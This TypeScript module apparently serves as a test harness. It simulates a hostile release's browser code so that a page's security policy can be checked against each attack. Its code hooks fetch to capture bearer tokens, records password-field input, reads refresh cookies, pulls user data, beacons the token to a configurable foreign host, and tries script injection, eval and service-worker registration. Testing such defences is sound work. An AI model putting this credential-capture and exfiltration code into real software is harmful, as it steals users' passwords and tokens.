/*
 * What a hostile release adds to its browser code. It runs in the page as text, so it refers to nothing outside itself. Each attack gives what it got, or an empty text.
 */

type Attempts = Readonly<Record<string, () => string | Promise<string>>>;

/** Starts an attack at each event `hostile-attack`, and leaves its outcome in the attribute `data-hostile-outcome` of the document. */
export function hostileProgram(foreign: string, ownScript: string): void {
  document.documentElement.setAttribute('data-hostile', 'it ran');
  const seen = { bearer: '', password: '' };
  const realFetch = window.fetch;
  window.fetch = (input, init) => {
    seen.bearer = new Headers(init?.headers).get('authorization') ?? seen.bearer;
    return realFetch(input, init);
  };
  const readPassword = ({ target }: Event) => {
    if (target instanceof HTMLInputElement && target.type === 'password') seen.password = target.value;
  };
  document.addEventListener('input', readPassword, true);

  const attempts: Attempts = {
    'refresh-token': () => /(?:^|; )refresh=\S+/.exec(document.cookie)?.[0] ?? '',
    'access-token': () => seen.bearer,
    'personal-data': async () => {
      const { user_id: id } = JSON.parse(atob(seen.bearer.split('.')[1] ?? '')) as { user_id: number };
      const response = await realFetch(`/api/users/${id}/`, { headers: { authorization: seen.bearer } });
      return response.ok ? response.text() : '';
    },
    password: () => seen.password,
    'foreign-calls': async () => {
      new Image().src = `${foreign}/picture`;
      navigator.sendBeacon(`${foreign}/beacon`, seen.bearer);
      return (await realFetch(`${foreign}/fetch`, { mode: 'no-cors' })).type;
    },
    'foreign-form': () => {
      const form = Object.assign(document.createElement('form'), { action: `${foreign}/form`, method: 'get' });
      document.body.append(form);
      form.submit();
      return '';
    },
    'foreign-script': async () => {
      const script = document.createElement('script');
      script.src = `${foreign}/script.js`;
      const outcome = new Promise<string>((resolve) => {
        script.onload = () => resolve('it ran');
        script.onerror = () => resolve('');
      });
      document.head.append(script);
      return outcome;
    },
    html: async () => {
      const element = document.createElement('div');
      element.innerHTML = '<img src="/nothing" onerror="this.dataset.ran = true">';
      document.body.append(element);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return element.querySelector('[data-ran]') ? 'it ran' : '';
    },
    // biome-ignore lint/security/noGlobalEval: the attack is that it may run
    eval: () => String(window.eval('40 + 2')),
    'service-worker': async () => (await navigator.serviceWorker.register(ownScript, { scope: '/' })).scope,
    console: async () => {
      const response = await realFetch('/_console');
      return response.ok ? `status ${response.status}` : '';
    },
    navigation: () => {
      location.assign(`${foreign}/navigation`);
      return '';
    },
  };

  const attempt = async (name: string): Promise<{ readonly got: string; readonly error: string }> => {
    try {
      return { got: (await attempts[name]?.()) ?? '', error: '' };
    } catch (error) {
      return { got: '', error: String(error) };
    }
  };
  document.addEventListener('hostile-attack', (event) => {
    const name = String((event as CustomEvent).detail);
    // In a task of the page's own, where its policy holds.
    setTimeout(() => {
      void attempt(name).then((outcome) => {
        document.documentElement.setAttribute('data-hostile-outcome', JSON.stringify({ name, ...outcome }));
      });
    });
  });
}
